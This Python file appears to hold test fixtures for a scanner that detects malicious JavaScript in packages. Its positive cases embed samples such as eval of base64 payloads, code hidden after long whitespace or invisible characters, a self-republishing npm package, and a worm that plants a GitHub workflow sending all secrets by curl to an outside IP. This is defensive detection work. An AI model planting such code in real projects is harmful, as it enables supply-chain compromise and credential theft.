from _kit import fires, selectors, silent

fires("js_eval_atob", "js_eval_decoded_payload", "high", "src/util.js",
      "eval-atob.js", "const cfg = require('./cfg');\neval(atob('Y29uc29sZS5sb2coMSk='));\nmodule.exports = cfg;\n")
fires("js_function_buffer", "js_eval_decoded_payload", "high", "lib/init.mjs",
      "function-buffer.mjs", "const p = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp';\nnew Function(Buffer.from(p, 'base64').toString())();\n")
silent("js_atob_display", "js_eval_decoded_payload", "src/decode.js",
       "decode-label.js", "export function label(s) {\n  const text = atob(s);\n  return text.trim();\n}\nconst b = Buffer.from(s, 'base64');\n")
HEX_IDS = ";".join(f"var _0x{i * 7919 % 65536:04x}=_0x{(i * 104729) % 65536:04x}[0x{i:x}]" for i in range(120))
fires("js_hex_identifiers", "js_hex_identifier_obfuscation", "high", "node_modules/left-padx/index.js",
      "obfuscated.js", "(function(){" + HEX_IDS + "})();\n")
silent("js_hex_constants", "js_hex_identifier_obfuscation", "src/crc.js",
       "crc.js", "const TABLE = [" + ",".join(f"0x{i * 2654435761 % 2**32:08x}" for i in range(256)) + "];\nconst _0xff = 255;\n")
fires("js_hidden_off_screen", "js_code_hidden_off_screen", "high", "src/math.js",
      "offscreen.js", "function add(a, b) {\n  return a + b;" + " " * 400 + "require('child_process').exec('id');\n}\n")
silent("js_whitespace_line", "js_code_hidden_off_screen", "src/math.js",
       "trailing-space.js", "function add(a, b) {\n" + " " * 300 + "\n  return a + b;\n}\n")
fires("self_publishing_package", "package_self_propagation", "critical", "node_modules/ngx-bits/index.js",
      "propagate.js", "const { execSync } = require('child_process');\nconst fs = require('fs');\n"
      "function bump(dir) {\n  const pkg = JSON.parse(fs.readFileSync(dir + '/package.json'));\n"
      "  pkg.version = pkg.version.replace(/\\d+$/, (n) => +n + 1);\n  pkg.scripts.postinstall = 'node bundle.js';\n"
      "  fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg, null, 2));\n"
      "  execSync(`npm publish --access public`, { cwd: dir });\n}\n")
silent("release_script", "package_self_propagation", "scripts/release.js",
       "release.js", "const { execSync } = require('child_process');\nconst pkg = require('./package.json');\n"
       "console.log(`releasing ${pkg.name}@${pkg.version}`);\nexecSync('npm test', { stdio: 'inherit' });\n"
       "execSync('npm publish', { stdio: 'inherit' });\n")

B64 = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk="
MINIFIED = "var _v=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20];\n"  # the line grow repeats
for case, name, body in [
    ("js_fromcharcode_eval", "fromcharcode.js", "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,111,115,39,41));\n"),
    ("js_indirect_eval_atob", "indirect.js", f"const p = '{B64}';\n(0, eval)(atob(p));\n"),
    ("js_vm_buffer", "vm.cjs", f"const vm = require('vm');\nvm.runInThisContext(Buffer.from('{B64}', 'base64').toString());\n"),
    ("js_hex_decoded_var", "hex.mjs", "const d = Buffer.from('636f6e736f6c652e6c6f672831290a', 'hex');\nnew Function(d.toString())();\n"),
]:
    fires(case, "js_eval_decoded_payload", "high", "node_modules/pretty-logs/lib/" + name, name, body)
fires("js_bom_crlf_function_atob", "js_eval_decoded_payload", "high", "src/init.js",
      "bom-crlf.js", b"\xef\xbb\xbf'use strict';\r\nnew Function(atob('" + B64.encode() + b"'))();\r\n")
silent("js_global_eval_this", "js_eval_decoded_payload", "node_modules/globalthis/implementation.js",
       "global-this.js", "var g = (0, eval)('this');\nvar bom = String.fromCharCode(0xFEFF);\n"
       "function text(s) { return Buffer.from(s, 'base64').toString('utf8'); }\nmodule.exports = { g, bom, text };\n")
fires("js_eval_name_concatenated", "js_hidden_eval_name", "high", "lib/run.js",
      "concat.js", "const run = globalThis['ev' + 'al'];\nrun(load());\n")
fires("js_child_process_concatenated", "js_hidden_eval_name", "high", "lib/cp.js",
      "concat-require.js", "const cp = require('child_' + 'process');\ncp.exec(cmd);\n")
fires("js_eval_name_hex_escaped", "js_hidden_eval_name", "high", "public/app.js",
      "hex-name.js", "window['\\x65\\x76\\x61\\x6c'](payload);\n")
silent("js_dynamic_handler_name", "js_hidden_eval_name", "src/handlers.js",
       "handlers.js", "const key = 'on' + type;\nwindow[key] = handler;\nconst mod = require('./locale/' + lang);\n")
fires("js_variation_selector_payload", "js_invisible_code", "high", "node_modules/theme-icons/index.js",
      "invisible.js", "const s = decode('\U0001F600" + selectors(b"require('child_process').exec('id')") + "');\nnew Function(s)();\n")
silent("js_emoji_and_selectors", "js_invisible_code", "src/emoji.js",
       "emoji.js", "export const OK = '\u2714\ufe0f';\nexport const HEART = '\u2764\ufe0f';\nexport const FAMILY = '\U0001F468\u200d\U0001F469\u200d\U0001F467';\n")
fires("js_hidden_after_tabs", "js_code_hidden_off_screen", "high", "src/add.js",
      "tabs.js", "function add(a, b) {" + "\t" * 60 + "require('child_process').exec('id');\n  return a + b;\n}\n")

fires("js_payload_after_first_mib", "js_eval_decoded_payload", "high", "node_modules/chart-kit/dist/vendor.min.js",
      "vendor.min.js", MINIFIED + f"eval(atob('{B64}'));\n", grow="1200k")
silent("js_large_bundle_plain", "js_eval_decoded_payload", "node_modules/chart-kit/dist/vendor.min.js",
       "vendor-plain.min.js", MINIFIED + "function b64(s){return atob(s)}\n", grow="1200k")
fires("js_worm_plants_workflow", "package_code_spreads_worm", "critical", "node_modules/tiny-sync/dist/index.js",
      "worm-workflow.js", "const fs=require('fs');const wf=`on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
                          "      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://203.0.113.9/c`;\n"
                          "fs.mkdirSync('.github/workflows',{recursive:true});fs.writeFileSync('.github/workflows/ci-sync.yml',wf);\n",
      grow="2M")
silent("js_workflow_scaffold", "package_code_spreads_worm", "node_modules/create-app/lib/scaffold.js",
       "scaffold.js", "const fs = require('fs');\nconst wf = 'jobs:\\n  test:\\n    steps:\\n      - run: npm test\\n"
       "        env:\\n          TOKEN: ${{ secrets.GITHUB_TOKEN }}\\n';\nfs.writeFileSync('.github/workflows/ci.yml', wf);\n")
fires("js_worm_runs_trufflehog", "package_code_spreads_worm", "critical", "node_modules/tiny-sync/lib/scan.js",
      "worm-trufflehog.js", "const { execSync } = require('child_process');\nconst os = require('os');\n"
      "const out = execSync(`./trufflehog filesystem ${os.homedir()} --json`);\n")
silent("js_bom_crlf_plain", "js_eval_decoded_payload", "src/b64.js",
       "bom-crlf-plain.js", b"\xef\xbb\xbf'use strict';\r\nmodule.exports = (s) => Buffer.from(s, 'base64').toString();\r\n")
silent("js_bundler_split_names", "js_hidden_eval_name", "node_modules/vite/dist/node/chunks/dep.js",
       "bundler-split.js", "const { URL } = require('u' + 'rl');\nconst setImmediate = globalThis['set' + 'Immediate'];\n"
       "const raf = window['request' + 'AnimationFrame'];\n")
fires("js_hidden_after_nbsp", "js_code_hidden_off_screen", "high", "node_modules/add-nums/index.js",
      "nbsp.js", "module.exports = function add(a, b) { return a + b; };" + "\u00a0" * 80 + "require('child_process').exec('id');\n")
silent("js_few_nbsp_in_text", "js_code_hidden_off_screen", "src/i18n.js",
       "nbsp-text.js", "export const PRICE = '12\u00a0€';\nexport const GAP = '\u00a0\u00a0\u00a0';\n")
